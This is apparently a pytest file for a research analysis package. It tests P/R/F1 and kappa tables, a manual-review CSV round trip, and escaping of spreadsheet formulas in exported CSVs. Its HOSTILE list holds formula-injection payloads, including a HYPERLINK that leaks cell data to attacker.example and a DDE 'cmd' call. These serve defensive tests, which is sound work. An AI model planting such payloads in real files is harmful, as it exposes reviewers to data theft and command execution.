"""P/R/F1, kappa and the manual-review round trip, with exact values."""

from __future__ import annotations

import math

import numpy as np
import polars as pl
import pytest

from mbb.analysis import (
    cohen_kappa,
    export_review_sample,
    import_review,
    kappa_table,
    prf_table,
    review_agreement,
    utterance_predictions,
    utterances,
)

K = ["run_id", "seq"]


def long(rows):
    return pl.DataFrame(rows, schema=["run_id", "seq", "category"], orient="row")


def test_prf_exact():
    truth = long([("r", 1, "anchoring"), ("r", 2, "anchoring"), ("r", 3, "reciprocity")])
    pred = long([("r", 1, "anchoring"), ("r", 3, "anchoring"), ("r", 3, "reciprocity")])
    t = prf_table(truth, pred, K).filter(pl.col("support") + pl.col("predicted") > 0)
    assert t.rows() == [
        ("anchoring", 2, 2, 1, 0.5, 0.5, 0.5),
        ("reciprocity", 1, 1, 1, 1.0, 1.0, 1.0),
        ("macro (enacted)", 3, 3, 2, 0.75, 0.75, 0.75),
    ]


def test_prf_predicted_but_absent_category_has_no_recall():
    t = prf_table(long([("r", 1, "anchoring")]), long([("r", 1, "cheap_talk")]), K)
    row = t.filter(pl.col("category") == "cheap_talk").row(0, named=True)
    assert row["precision"] == 0.0 and row["recall"] is None and row["f1"] is None


def test_cohen_kappa_exact():
    assert cohen_kappa(np.array([1, 1, 0, 0]), np.array([1, 0, 0, 0])) == pytest.approx(0.5)
    assert cohen_kappa(np.array([1, 0]), np.array([1, 0])) == 1.0
    assert cohen_kappa(np.array([0, 0]), np.array([0, 0])) == 1.0
    assert cohen_kappa(np.array([]), np.array([])) is None


def test_kappa_table_exact():
    items = pl.DataFrame({"run_id": ["r"] * 4, "seq": [1, 2, 3, 4]})
    a = long([("r", 1, "anchoring"), ("r", 2, "anchoring")])
    b = long([("r", 1, "anchoring")])
    t = kappa_table(items, a, b, categories=["anchoring", "cheap_talk"])
    assert t.row(0) == ("anchoring", 4, 2, 1, 0.75, pytest.approx(0.5))
    assert t.row(1) == ("cheap_talk", 4, 0, 0, 1.0, 1.0)
    # pooled over 8 decisions: a has 2 yes, b 1 yes, 7 agree
    po, pe = 7 / 8, (2 / 8) * (1 / 8) + (6 / 8) * (7 / 8)
    assert t.row(2)[5] == pytest.approx((po - pe) / (1 - pe))


def test_review_round_trip(scen, scen_ev, tmp_path):
    path = tmp_path / "review.csv"
    sample = export_review_sample(
        utterances(scen), utterance_predictions(scen_ev), path, per_stratum=1, seed=3
    )
    # one row per (source, first predicted category or 'none') stratum present
    assert sample.select("source", "stratum").rows() == sorted(
        set(sample.select("source", "stratum").rows())
    )
    # declaration: none, price_primary (the round-7 and -8 models read one declaration, "order
    # by price, as the mechanism intends"); message: earliest_deadline_first, reciprocity (no
    # 'none': message 27, calling in a favour, is labelled reciprocity); ballot: price_primary,
    # earliest_deadline_first (no 'none': every ballot is labelled, the bare "By bid." ones
    # too; test_evidence pins the labels)
    assert sample.select("source", "stratum").rows() == [
        ("ballot", "earliest_deadline_first"),
        ("ballot", "price_primary"),
        ("declaration", "none"),
        ("declaration", "price_primary"),
        ("message", "earliest_deadline_first"),
        ("message", "reciprocity"),
    ]
    df = pl.read_csv(path, schema_overrides={"human_labels": pl.String})
    # the human agrees everywhere except that they add 'anchoring' to the first row
    df = df.with_columns(pl.col("predicted").fill_null("").alias("human_labels"))
    df = df.with_columns(
        pl.when(pl.int_range(pl.len()) == 0)
        .then(pl.concat_str([pl.col("human_labels"), pl.lit(";anchoring")]))
        .otherwise(pl.col("human_labels"))
        .alias("human_labels")
    )
    df.write_csv(path)
    rev = import_review(path)
    agr = review_agreement(rev)
    anch = agr.filter(pl.col("category") == "anchoring").row(0, named=True)
    assert (anch["support"], anch["predicted"], anch["tp"]) == (1, 0, 0)
    assert anch["recall"] == 0.0
    pp = agr.filter(pl.col("category") == "price_primary").row(0, named=True)
    assert pp["f1"] == 1.0 and pp["kappa"] == 1.0
    pooled = agr.filter(pl.col("category") == "macro (enacted)")["kappa"].item()
    assert 0 < pooled < 1 and not math.isnan(pooled)


def test_import_review_rejects_unknown_category(tmp_path):
    path = tmp_path / "bad.csv"
    pl.DataFrame(
        {"run_id": ["r"], "seq": [4], "predicted": [""], "human_labels": ["anchoring;bribery"]}
    ).write_csv(path)
    with pytest.raises(ValueError, match=r"unknown category 'bribery'.*run r, seq 4"):
        import_review(path)


# texts a colleague's run can carry that a spreadsheet would run as formulas (a red team's)
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A2,"open details")',
    "+1+1",
    "-2+3",
    "@SUM(1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
]


def _hostile_utterances():
    n = len(HOSTILE)
    u = pl.DataFrame(
        {
            "run_id": ["base-seed0000"] * n,
            "seq": list(range(n)),
            "subrun": [0] * n,
            "round": [1] * n,
            "worker": ["=W1()", *["W2"] * (n - 1)],
            "source": ["message"] * n,
            "text": HOSTILE,
        }
    )
    p = pl.DataFrame({"run_id": ["base-seed0000"], "seq": [0], "category": ["anchoring"]})
    return u, p


@pytest.mark.parametrize("export", ["review", "ipw"])
def test_review_csvs_do_not_carry_formulas(export, tmp_path):
    from mbb.analysis.validation import export_ipw_sample, ipw_estimates

    u, p = _hostile_utterances()
    path = tmp_path / "sample.csv"
    if export == "review":
        export_review_sample(u, p, path, per_stratum=10)
    else:
        export_ipw_sample(u, p, path, per_stratum=10, unlabelled=10)
    back = pl.read_csv(path, infer_schema_length=0).sort(pl.col("seq").cast(pl.Int64))
    # every text cell a spreadsheet would evaluate is shown as text ('), the rest as it was
    assert back["text"].to_list() == [f"'{t}" for t in HOSTILE]
    if export == "review":
        assert back["worker"].to_list()[0] == "'=W1()"
    # the keys are left as they are: the filled-in file still joins and weighs back
    assert back["run_id"].to_list() == ["base-seed0000"] * len(HOSTILE)
    assert back["seq"].to_list() == [str(i) for i in range(len(HOSTILE))]
    if export == "ipw":
        labelled = back.with_columns(pl.col("predicted").fill_null("").alias("human_labels"))
        labelled.write_csv(tmp_path / "labelled.csv")
        est = ipw_estimates(tmp_path / "labelled.csv", ["anchoring"], n_boot=10)
        assert est.row(0, named=True)["precision"] == 1.0


def test_a_worker_round_review_sample_guards_the_worker_name(tmp_path):
    """The worker is a key of a worker-round sample, but a colleague's log can name a worker
    anything: its name is guarded like any text (only the run id is left as it is)."""
    from mbb.analysis.validation import WR, export_ipw_sample

    u, _ = _hostile_utterances()
    p = pl.DataFrame(
        {"run_id": ["base-seed0000"], "subrun": [0], "round": [1], "worker": ["=W1()"]}
    ).with_columns(pl.lit("anchoring").alias("category"))
    path = tmp_path / "wr.csv"
    export_ipw_sample(u, p, path, per_stratum=10, unlabelled=10, keys=WR)
    back = pl.read_csv(path, infer_schema_length=0)
    assert "=W1()" not in back["worker"].to_list()
    assert "'=W1()" in back["worker"].to_list()
    assert set(back["run_id"].to_list()) == {"base-seed0000"}
